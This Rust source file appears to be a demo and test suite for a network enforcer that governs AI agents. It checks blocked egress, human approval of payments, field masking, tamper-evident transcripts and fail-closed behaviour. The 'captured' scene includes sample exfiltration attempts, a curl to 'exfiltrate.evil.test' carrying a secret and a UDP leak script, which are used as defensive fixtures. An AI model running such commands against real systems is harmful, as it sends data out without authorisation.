//! The scenes, in the order in which a visitor would ask.

use crate::database;
use crate::stage::{Stage, said};
use enforcer_tests::agents;
use enforcer_tests::world::FAR_V4;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Instant;

/// Every scene.
pub(crate) const ALL: &[fn(&mut Stage)] =
    &[captured, real_agents, refused, approved, masked, database::scene, recorded, dead];

const API: &str = "https://api.demo.test:8443";

fn captured(stage: &mut Stage) {
    stage.scene("Captured: an agent that is configured for nothing cannot opt out");
    let direct = format!("http://{FAR_V4}/hello.json");
    let control = stage.ungoverned("curl", &["-sS", "-m5", &direct]);
    stage.guarantee(
        "control: ungoverned, curl gets out",
        control.status.success(),
        &said(&control),
    );
    let sniffer = stage.world.sniff();
    let out = stage.agent("curl", &["-sS", "-m5", "--noproxy", "*", &direct]);
    let packets = sniffer.stop();
    let leaked = packets.iter().filter(|p| p.has(b"GET /hello.json")).count();
    stage.guarantee(
        "governed, to a bare address: nothing leaves",
        said(&out).contains("\"status\":403") && !said(&out).contains("\"hello\"") && leaked == 0,
        &format!("{leaked} of its requests on the wire; {}", said(&out)),
    );
    let sniffer = stage.world.sniff();
    let out = stage.agent("curl", &["-sS", "-m5", "https://exfiltrate.evil.test/?d=secret"]);
    let packets = sniffer.stop();
    let asked = packets.iter().filter(|p| p.has(b"exfiltrate")).count();
    stage.guarantee(
        "a name that no policy knows is never looked up",
        said(&out).contains("curl: (6)") && asked == 0,
        &format!("{asked} queries on the wire; {}", said(&out)),
    );
    let udp = "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'leak-by-udp', ('10.77.0.2', 443))";
    let sniffer = stage.world.sniff();
    let control = stage.ungoverned("/usr/bin/python3", &["-c", udp]);
    let seen = sniffer.stop().iter().filter(|p| p.has(b"leak-by-udp")).count();
    let sniffer = stage.world.sniff();
    let out = stage.agent("/usr/bin/python3", &["-c", udp]);
    let leaked = sniffer.stop().iter().filter(|p| p.has(b"leak-by-udp")).count();
    stage.guarantee(
        "UDP (and so QUIC) is refused at once",
        control.status.success()
            && seen > 0
            && leaked == 0
            && said(&out).contains("PermissionError"),
        &format!(
            "ungoverned {seen} datagram, governed {leaked}; {}",
            said(&out).lines().last().unwrap_or_default()
        ),
    );
}

fn real_agents(stage: &mut Stage) {
    stage.scene("Real agents, unchanged: TLS is read, HTTP/2 stays HTTP/2");
    let url = "https://files.demo.test/hello.json";
    let out = stage.agent("curl", &["-sS", "-m10", url]);
    stage.guarantee("curl", said(&out).contains("\"world\""), &said(&out));
    let code = format!("import urllib.request as u; print(u.urlopen('{url}', timeout=10).read())");
    let out = stage.agent("/usr/bin/python3", &["-c", &code]);
    stage.guarantee("Python urllib", said(&out).contains("world"), &said(&out));
    let python = agents::python();
    let code = format!(
        "import httpx; r = httpx.Client(http2=True, timeout=10).get('{url}'); print(r.http_version, r.text)"
    );
    let out = stage.agent(&python.to_string_lossy(), &["-c", &code]);
    stage.guarantee(
        "Python httpx over HTTP/2",
        said(&out).contains("HTTP/2 ") && said(&out).contains("world"),
        &said(&out),
    );
    let code = format!("fetch('{url}').then(r => r.text()).then(t => console.log(t))");
    let out = stage.agent("node", &["-e", &code]);
    stage.guarantee("Node fetch", said(&out).contains("world"), &said(&out));
    let clone = "d=$(mktemp -d) && git clone -q https://files.demo.test/git/tools.git $d/t && cat $d/t/README && rm -r $d";
    let out = stage.agent("sh", &["-c", clone]);
    stage.guarantee(
        "git clone over HTTPS",
        said(&out).contains("cloned through the gate"),
        &said(&out),
    );
}

fn refused(stage: &mut Stage) {
    stage.scene("Refused: the answer says why and what to do, in the agent's own protocol");
    let before = stage.origin.seen().len();
    let out = stage.agent(
        "curl",
        &[
            "-sS",
            "-m10",
            "-X",
            "DELETE",
            "-w",
            "%{http_code} %{content_type}",
            &format!("{API}/people/1"),
        ],
    );
    let text = said(&out);
    stage.guarantee(
        "a forbidden DELETE gets 403 problem+json",
        text.contains("403 application/problem+json") && text.contains("nothing-is-deleted"),
        &text,
    );
    let after = stage.origin.seen().len();
    stage.guarantee(
        "and the origin never saw it",
        before == after,
        &format!("{} requests reached it", after - before),
    );
}

fn approved(stage: &mut Stage) {
    stage.scene("Approved by a person: held, decided, bound to exactly this operation, used once");
    let url = format!("{API}/payments");
    let pay = |amount: &str| {
        let body = format!("{{\"to\":\"ACME\",\"amount\":{amount}}}");
        ["-sS", "-m300", "-w", " %{http_code}", "-H", "content-type: application/json", "-d"]
            .iter()
            .map(|s| (*s).to_owned())
            .chain([body, url.clone()])
            .collect::<Vec<_>>()
    };
    let held = stage
        .deployment
        .agent("demo", "curl")
        .args(pay("100"))
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("starts");
    let asked = stage.deployment.pending("/payments");
    let id = asked["id"].as_str().unwrap_or_default().to_owned();
    let reached = stage.origin.seen().iter().filter(|s| s.path == "/payments").count();
    stage.guarantee("the request is held; nothing left", reached == 0, &format!("approval {id}"));
    let decided = stage.approve(&id, "invoice 17");
    let out = held.wait_with_output().expect("ends");
    let released = decided.elapsed();
    let seen = stage.origin.seen();
    let paid: Vec<_> = seen.iter().filter(|s| s.path == "/payments").collect();
    stage.guarantee(
        "approved: the unchanged client gets its answer",
        said(&out).ends_with(" 200") && paid.len() == 1,
        &format!("{:.0} ms after the decision; {}", released.as_secs_f32() * 1e3, said(&out)),
    );
    let again = stage
        .deployment
        .agent("demo", "curl")
        .args(pay("100000"))
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("starts");
    let other = stage.deployment.pending("/payments");
    let other_id = other["id"].as_str().unwrap_or_default().to_owned();
    stage.guarantee(
        "another amount is another operation: asked anew",
        other_id != id && other["digest"] != asked["digest"],
        &format!("approval {other_id}"),
    );
    let out = stage.deployment.review("alice", &["deny", &other_id, "--reason", "not agreed"]);
    assert!(out.status.success(), "{}", said(&out));
    let out = again.wait_with_output().expect("ends");
    let reached = stage.origin.seen().iter().filter(|s| s.path == "/payments").count();
    stage.guarantee(
        "denied by a person: 403, nothing left",
        said(&out).ends_with(" 403") && reached == 1,
        &said(&out),
    );
}

fn masked(stage: &mut Stage) {
    stage.scene("Masked or blocked: sensitive fields never reach the agent");
    for (what, path) in [
        ("JSON", "/people"),
        ("gzip", "/people.gz"),
        ("chunked, 3 bytes a piece", "/people.chunked"),
    ] {
        let out = stage.agent("curl", &["-sS", "-m10", "--compressed", &format!("{API}{path}")]);
        let text = said(&out);
        let hidden = !text.contains("ada@example.com") && !text.contains("4111111111111111");
        stage.guarantee(&format!("masked: {what}"), hidden && text.contains("Ada"), &text);
    }
    let start = Instant::now();
    let code = format!(
        "import httpx, time\nt = time.time()\nwith httpx.stream('GET', '{API}/sse', timeout=10) as r:\n  for l in r.iter_lines():\n    if l: print(round(time.time() - t, 1), l)"
    );
    let out = stage.agent(&agents::python().to_string_lossy(), &["-c", &code]);
    let text = said(&out);
    let times: Vec<f32> = text.lines().filter_map(|l| l.split(' ').next()?.parse().ok()).collect();
    let apart = times.windows(2).all(|w| w[1] - w[0] > 0.1) && times.len() == 2;
    stage.guarantee(
        "masked: events, each as it comes",
        apart && !text.contains("ada@example.com"),
        &format!("{:.1} s; {text}", start.elapsed().as_secs_f32()),
    );
    let out = stage
        .agent("curl", &["-sS", "-m10", "-w", " %{http_code}", &format!("{API}/people.unknown")]);
    let text = said(&out);
    stage.guarantee(
        "an encoding nobody can read is blocked",
        !text.contains("Ada") && text.ends_with(" 502"),
        &text,
    );
}

fn recorded(stage: &mut Stage) {
    stage.scene("Recorded: searchable, provable, exportable");
    let out = stage.deployment.transcripts(&["grep", "invoice|/payments"]);
    stage.guarantee(
        "the payment is found",
        said(&out).contains("/payments"),
        said(&out).lines().next().unwrap_or_default(),
    );
    let out = stage.deployment.transcripts(&["verify"]);
    stage.guarantee("verify recomputes every hash", out.status.success(), &said(&out));
    let copy = stage.world.path("tampered");
    let tampered = tamper(&stage.deployment.store, &copy);
    let out = stage
        .deployment
        .enforcer()
        .args(["transcripts", "verify", "--store"])
        .arg(&copy)
        .output()
        .expect("starts");
    stage.guarantee(
        "one byte flipped in a copy: named",
        tampered && !out.status.success(),
        &said(&out),
    );
    let har = stage.world.path("demo.har");
    let out =
        stage.deployment.transcripts(&["export", "--format", "har", "-o", &har.to_string_lossy()]);
    let entries = std::fs::read(&har)
        .ok()
        .and_then(|text| serde_json::from_slice::<serde_json::Value>(&text).ok());
    let count = entries.as_ref().and_then(|h| h["log"]["entries"].as_array()).map_or(0, Vec::len);
    stage.guarantee(
        "exported as HAR",
        out.status.success() && count > 5,
        &format!("{count} entries"),
    );
}

/// Copies a store and flips one byte in the middle of its largest file of data.
fn tamper(store: &Path, copy: &Path) -> bool {
    let copied =
        Command::new("cp").arg("-r").arg(store).arg(copy).status().is_ok_and(|s| s.success());
    let Ok(files) = std::fs::read_dir(copy) else { return false };
    let data = files
        .flatten()
        .map(|entry| entry.path())
        .filter(|path| path.extension().is_some_and(|kind| kind == "log" || kind == "sst"))
        .max_by_key(|path| path.metadata().map_or(0, |meta| meta.len()));
    let Some(path) = data else { return false };
    let Ok(mut bytes) = std::fs::read(&path) else { return false };
    let middle = bytes.len() / 2;
    let Some(byte) = bytes.get_mut(middle) else { return false };
    *byte ^= 1;
    copied && std::fs::write(&path, bytes).is_ok()
}

fn dead(stage: &mut Stage) {
    stage.scene("Fail closed: the server dies, the daemon dies, egress stays shut");
    stage.deployment.kill_server();
    let out = stage.agent(
        "curl",
        &["-sS", "-m25", "-w", " %{http_code}", "-d", "x=1", &format!("{API}/payments")],
    );
    stage.guarantee("approval server killed: refused", said(&out).ends_with(" 403"), &said(&out));
    stage.deployment.kill_daemon();
    let sniffer = stage.world.sniff();
    let out = stage.governed("curl", &["-sS", "-m5", &format!("http://{FAR_V4}/hello.json")]);
    let leaked = sniffer.stop().iter().filter(|p| p.has(b"GET /")).count();
    stage.guarantee(
        "daemon killed with -9: every connect fails",
        !out.status.success() && leaked == 0,
        &format!("{leaked} requests on the wire; {}", said(&out)),
    );
    let control = stage.ungoverned("curl", &["-sS", "-m5", &format!("http://{FAR_V4}/hello.json")]);
    stage.guarantee(
        "control: ungoverned, the same gets out",
        control.status.success(),
        &said(&control),
    );
    let out = stage.deployment.transcripts(&["verify"]);
    stage.guarantee(
        "the transcripts of the killed daemon verify",
        out.status.success(),
        &said(&out),
    );
    stage.deployment.start_daemon();
    let out = stage.agent("curl", &["-sS", "-m10", "https://files.demo.test/hello.json"]);
    stage.guarantee(
        "the daemon comes back and adopts its programs",
        said(&out).contains("world"),
        &said(&out),
    );
}
